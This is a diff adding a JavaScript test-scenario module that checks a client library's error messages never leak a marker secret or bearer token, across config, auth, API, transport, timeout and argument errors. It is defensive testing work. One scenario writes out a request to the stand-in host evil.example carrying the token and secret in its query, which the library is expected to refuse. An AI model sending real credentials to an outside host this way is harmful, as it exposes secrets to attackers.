@@ -1,0 +1,170 @@
+'use strict';
+// The scenarios of secrets.test.js (zbauth issue 7): every error code the
+// binding can produce, each triggered with the marker secret configured (the
+// dev cluster accepts helpers.SECRET) and, past the token endpoint, a marker
+// token in flight; servers that echo them back included. Shared with
+// secrets-child.js, which runs them all in a fresh process and logs what
+// they produce.
+//
+// Each scenario: [code, faults queued after a reset, run(ctx), more
+// markers?], where run resolves to { error, client } and ctx is
+// { opts, closedPort }; the optional markers are texts that must not show
+// either.
+
+const { Client, ZbauthError } = require('..');
+const { SECRET, TOKEN_MARKER, pathEscape, queryEscape } = require('./helpers');
+
+const Q = pathEscape(SECRET); // as a URL path segment
+const QP = queryEscape(SECRET); // as a query value
+
+/** A fault: the token endpoint always answers status with body (JSON-encoded unless a string). */
+const tokenAnswers = (status, body) => ({ target: 'token', status, body: typeof body === 'string' ? body : JSON.stringify(body) });
+
+// The token endpoint issues TOKEN_MARKER (the API rejects it, unless an API fault answers first).
+const MARKER_TOKEN = tokenAnswers(200, { access_token: TOKEN_MARKER, token_type: 'Bearer', expires_in: 300 });
+
+/** A fault: the REST API answers with a problem document echoing the token and the secret in every member. */
+function echoProblem(status) {
+  const echo = `Authorization: Bearer ${TOKEN_MARKER} client_secret=${QP} ${SECRET}`;
+  return {
+    target: 'api', status, content_type: 'application/problem+json',
+    body: JSON.stringify({ type: echo, title: echo, status, detail: echo, instance: echo }),
+  };
+}
+
+/** Runs fn and returns what it threw or rejected with (a ZbauthError), or fails. */
+async function fails(fn, client) {
+  try {
+    await fn();
+  } catch (e) {
+    if (!(e instanceof ZbauthError)) throw e;
+    return { error: e, client };
+  }
+  throw new Error('no error');
+}
+
+/** Creates a client from the dev cluster's options with overrides (each a
+ * value, or a function of ctx) and makes call on it. */
+function clientCall(call, overrides = {}) {
+  return async (ctx) => {
+    const o = { ...ctx.opts };
+    for (const [k, v] of Object.entries(overrides)) o[k] = typeof v === 'function' ? await v(ctx) : v;
+    const c = new Client(o);
+    return fails(() => call(c), c);
+  };
+}
+
+const token = (c) => c.token();
+const topology = (c) => c.topology();
+const dead = async (ctx) => `http://127.0.0.1:${await ctx.closedPort()}`;
+
+const SCENARIOS = {
+  // CONFIG (thrown by the constructor)
+  'config with the secret in URLs': ['CONFIG', [], () => fails(() => new Client({
+    clientId: 'id', clientSecret: SECRET,
+    authorizationServerUrl: `https://id:${QP}@login.example/${Q}`,
+    restAddress: `ftp://${Q}/x?secret=${QP}`,
+  }))],
+  'config key named like the secret': ['CONFIG', [], (ctx) => fails(() => new Client({ ...ctx.opts, [SECRET]: 1 }))],
+  // a secret shaped like a camelCase name, in any spelling the binding might give it
+  'config key named like the secret, camelCase': ['CONFIG', [], (ctx) => fails(() => new Client({
+    ...ctx.opts, clientSecret: 'secretMarkerCamel', secretMarkerCamel: 1,
+  })), ['secretMarkerCamel', 'secret_marker_camel', 'MarkerCamel', 'marker_camel']],
+  'secret as a number option': ['CONFIG', [], (ctx) => fails(() => new Client({ ...ctx.opts, timeoutMs: SECRET }))],
+  'secret as a boolean option': ['CONFIG', [], (ctx) => fails(() => new Client({ ...ctx.opts, allowInsecureHttp: SECRET }))],
+
+  // AUTH
+  'wrong secret': ['AUTH', [], clientCall(token, { clientSecret: `${SECRET}-wrong` })],
+  'wrong secret, refusal remembered': ['AUTH', [], async (ctx) => {
+    const c = new Client({ ...ctx.opts, clientSecret: `${SECRET}-wrong` });
+    await fails(() => c.token(), c);
+    return fails(() => c.token(), c); // served from the remembered refusal
+  }],
+  'token endpoint echoes the secret': ['AUTH', [tokenAnswers(401, {
+    error: SECRET, error_description: `client_secret=${QP}&audience=x ${SECRET}`,
+  })], clientCall(token)],
+  'token endpoint sends its token with an error': ['AUTH', [tokenAnswers(400, {
+    access_token: TOKEN_MARKER, error: TOKEN_MARKER, error_description: TOKEN_MARKER,
+  })], clientCall(token)],
+  'malformed token response': ['AUTH', [tokenAnswers(200,
+    `{"access_token":"${TOKEN_MARKER}","client_secret":${JSON.stringify(SECRET)}`)], clientCall(token)],
+  'token_type echoes the secret': ['AUTH', [tokenAnswers(200, { access_token: TOKEN_MARKER, token_type: SECRET })], clientCall(token)],
+  'token_type echoes the token': ['AUTH', [tokenAnswers(200, { access_token: TOKEN_MARKER, token_type: TOKEN_MARKER })], clientCall(token)],
+  'AUTH through topology()': ['AUTH', [tokenAnswers(401, { error: SECRET })], clientCall(topology)],
+
+  // API
+  'API rejects the marker token': ['API', [MARKER_TOKEN], clientCall(topology)],
+  'API problem echoes token and secret (topology)': ['API', [MARKER_TOKEN, echoProblem(403)], clientCall(topology)],
+  'API problem echoes token and secret (request)': ['API', [MARKER_TOKEN, echoProblem(400)],
+    clientCall((c) => c.request('POST', '/v2/echo', { secret: SECRET, token: TOKEN_MARKER }))],
+  'API plain-text error echoes token and secret (request)': ['API', [MARKER_TOKEN, {
+    target: 'api', status: 500, content_type: 'text/plain', body: `Bearer ${TOKEN_MARKER} ${SECRET}`,
+  }], clientCall((c) => c.request('GET', '/v2/topology'))],
+  'malformed topology echoing token and secret': ['API', [MARKER_TOKEN, {
+    target: 'api', status: 200, body: `{"brokers":"Bearer ${TOKEN_MARKER} ${SECRET}`,
+  }], clientCall(topology)],
+
+  // TRANSPORT
+  'token endpoint unreachable, secret in its URL': ['TRANSPORT', [], clientCall(token, {
+    authorizationServerUrl: async (ctx) => `${await dead(ctx)}/${Q}/token?client_secret=${QP}`, timeoutMs: 300,
+  })],
+  'REST API unreachable, secret in its URL': ['TRANSPORT', [MARKER_TOKEN], clientCall(topology, {
+    restAddress: async (ctx) => `${await dead(ctx)}/${Q}`, timeoutMs: 300,
+  })],
+  'REST API unreachable (request)': ['TRANSPORT', [MARKER_TOKEN], clientCall((c) => c.request('POST', '/v2/echo', { s: SECRET }), {
+    restAddress: async (ctx) => `${await dead(ctx)}/${Q}`, timeoutMs: 300,
+  })],
+  'huge token response': ['TRANSPORT', [{ target: 'token', status: 200, body_bytes: 2 << 20 }], clientCall(token)],
+
+  // TIMEOUT
+  'token endpoint timeout': ['TIMEOUT', [{ target: 'token', delay_ms: 2000 }], clientCall(token, { timeoutMs: 200 })],
+  'API timeout, secret in its URL': ['TIMEOUT', [MARKER_TOKEN, { target: 'api', delay_ms: 2000 }], clientCall(topology, {
+    restAddress: (ctx) => `${ctx.opts.restAddress}/${Q}`, timeoutMs: 200,
+  })],
+  'API timeout (request)': ['TIMEOUT', [MARKER_TOKEN, { target: 'api', delay_ms: 2000 }],
+    clientCall((c) => c.request('POST', '/v2/echo', { s: SECRET }), { timeoutMs: 200 })],
+
+  // long or re-encoded echoes (library leaks once)
+  'token_type echoes token and secret (40-character cut)': ['AUTH', [tokenAnswers(200, {
+    access_token: TOKEN_MARKER, token_type: TOKEN_MARKER + SECRET,
+  })], clientCall(token)],
+  'OAuth error echoes a long token (200-character cut)': ['AUTH', [tokenAnswers(400, {
+    access_token: TOKEN_MARKER + 'a'.repeat(900), error: TOKEN_MARKER + 'a'.repeat(900),
+  })], clientCall(token)],
+  'problem detail with the secret at its 1000-character cut': ['API', [{
+    target: 'api', status: 403, content_type: 'application/problem+json',
+    body: JSON.stringify({ title: 'Forbidden', detail: 'd'.repeat(980) + SECRET }),
+  }], clientCall(topology)],
+  'secret fully percent-encoded in the REST address': ['TRANSPORT', [], clientCall(topology, {
+    restAddress: async (ctx) => `${await dead(ctx)}/${encodeURIComponent(SECRET)}`, timeoutMs: 300,
+  })],
+
+  // ARGUMENT
+  'closed client: token()': ['ARGUMENT', [], clientCall(async (c) => { await c.token(); c.close(); return c.token(); })],
+  'closed client: topology()': ['ARGUMENT', [MARKER_TOKEN], clientCall(async (c) => { await c.token(); c.close(); return c.topology(); })],
+  'closed client: request()': ['ARGUMENT', [MARKER_TOKEN],
+    clientCall(async (c) => { await c.token(); c.close(); return c.request('GET', `/v2/x?secret=${QP}`); })],
+  'absolute URL refused by the library': ['ARGUMENT', [MARKER_TOKEN], clientCall(async (c) => {
+    await c.token();
+    return c.request('GET', `http://evil.example/?token=${TOKEN_MARKER}&secret=${QP}`);
+  })],
+  'malformed method': ['ARGUMENT', [MARKER_TOKEN], clientCall((c) => c.request(`GET ${SECRET}`, '/v2/topology'))],
+  'unserialisable body': ['ARGUMENT', [], clientCall((c) => c.request('POST', '/v2/echo', { secret: SECRET, n: 1n }))],
+  'option value JSON cannot carry': ['ARGUMENT', [], (ctx) => fails(() => new Client({ ...ctx.opts, [SECRET]: () => SECRET }))],
+  'options not an object': ['ARGUMENT', [], () => fails(() => new Client(SECRET))],
+};
+
+// Leaks found in the library (not the binding), kept as expected failures:
+// each is asserted to leak still, and fails the suite once the library is
+// fixed, to be moved up then. [code, faults, run, why]
+const PATHS = 'library: configured file paths are quoted in CONFIG messages without redacting the secret';
+const KNOWN_LEAKS = {
+  'secret in a CA certificate path': ['CONFIG', [], (ctx) => fails(() => new Client({
+    ...ctx.opts, caCertificatePath: `/nonexistent/${SECRET}.pem`,
+  })), PATHS],
+  'secret in a client certificate path': ['CONFIG', [], (ctx) => fails(() => new Client({
+    ...ctx.opts, clientCertificatePath: `/nonexistent/${SECRET}.pem`, clientKeyPath: '/nonexistent/key.pem',
+  })), PATHS],
+};
+
+module.exports = { SCENARIOS, KNOWN_LEAKS };
